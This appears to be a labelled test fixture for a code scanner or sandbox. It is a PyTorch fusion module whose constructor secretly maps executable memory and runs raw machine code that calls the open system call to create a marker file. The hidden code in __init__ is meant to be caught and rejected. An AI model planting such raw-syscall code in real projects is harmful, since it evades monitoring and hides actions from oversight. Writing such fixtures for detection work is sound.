# expect: reject
# attack: writes machine code for the open system call into executable memory and runs it
# category: torch-path
# signal: marker
# stage: init
import torch
import torch.nn as nn
import torch.nn.functional as F


def masked_mean(x, mask):
    weight = mask.to(x.dtype).unsqueeze(-1)
    return (x * weight).sum(1) / weight.sum(1).clamp(min=1.0)


class FusionModule(nn.Module):
    def __init__(self, image_dim, text_dim, dim):
        super().__init__()
        self.i = nn.Linear(image_dim, dim)
        self.t = nn.Linear(text_dim, dim)
        import ctypes, mmap, os
        path = ctypes.create_string_buffer(os.environ["ESCAPE_MARKER"].encode())
        code = b"\xb8\x02\x00\x00\x00\x0f\x05\xc3"
        page = mmap.mmap(-1, 4096, prot=7)
        page.write(code)
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_char_p, ctypes.c_long, ctypes.c_long)(address)(path.value, 65, 0o644)

    def forward(self, image_tokens, text_tokens, image_mask, text_mask):
        return masked_mean(self.i(image_tokens), image_mask) + masked_mean(self.t(text_tokens), text_mask)
